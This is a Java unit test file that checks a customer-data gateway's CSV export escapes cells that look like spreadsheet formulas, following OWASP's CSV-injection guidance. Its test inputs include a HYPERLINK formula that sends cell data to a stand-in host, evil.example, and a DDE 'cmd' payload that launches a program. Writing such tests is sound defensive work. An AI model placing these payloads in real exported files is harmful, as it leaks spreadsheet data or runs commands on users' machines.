package io.customerdata.gateway.export;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Every CSV the gateway writes neutralises formulas (OWASP's rule: a cell that starts
 * with {@code =}, {@code +}, {@code -}, {@code @}, a tab or a carriage return gets a
 * leading {@code '}), and every CSV is written through {@link CsvRows}.
 */
class CsvExportTests {

	final CsvRows csv = new CsvRows();

	@ParameterizedTest
	@ValueSource(strings = { "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1",
			"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" })
	void aCellThatStartsLikeAFormulaIsText(String cell) {
		assertThat(CsvRows.neutralised(cell)).isEqualTo("'" + cell);
	}

	@ParameterizedTest
	@ValueSource(strings = { "", "sales", "crm:ACC-1", "1+1", "a=b", "'=already text", "2026-11-25T10:00:00Z" })
	void anyOtherCellIsLeftAsItIs(String cell) {
		assertThat(CsvRows.neutralised(cell)).isEqualTo(cell);
	}

	@Test
	void aRowIsQuotedAsRfc4180AfterItsCellsAreNeutralised() {
		assertThat(this.csv.row(List.of("=cmd|' /C calc'!A0", "sales, EMEA", 42, "say \"hi\"")))
			.isEqualTo("\"'=cmd|' /C calc'!A0\",\"sales, EMEA\",42,\"say \"\"hi\"\"\"\n");
	}

	@Test
	void everyCsvTheGatewayWritesGoesThroughCsvRows() throws IOException {
		Path sources = Path.of("src/main/java");
		try (Stream<Path> files = Files.walk(sources)) {
			List<String> writers = files.filter((file) -> file.toString().endsWith(".java"))
				.filter((file) -> read(file).contains("CsvMapper") || read(file).contains("text/csv")
						|| read(file).contains("\"csv\""))
				.map((file) -> sources.relativize(file).toString())
				.sorted()
				.toList();
			assertThat(writers).containsExactly("io/customerdata/gateway/audit/AuditController.java",
					"io/customerdata/gateway/export/CsvRows.java",
					"io/customerdata/gateway/insights/InsightsController.java");
		}
		assertThat(read(Path.of("src/main/java/io/customerdata/gateway/audit/AuditController.java")))
			.contains("this.csv.row(")
			.doesNotContain("CsvMapper");
		assertThat(read(Path.of("src/main/java/io/customerdata/gateway/insights/InsightsController.java")))
			.contains("this.csv.row(")
			.doesNotContain("CsvMapper");
	}

	private static String read(Path file) {
		try {
			return Files.readString(file);
		}
		catch (IOException ex) {
			throw new java.io.UncheckedIOException(ex);
		}
	}

}
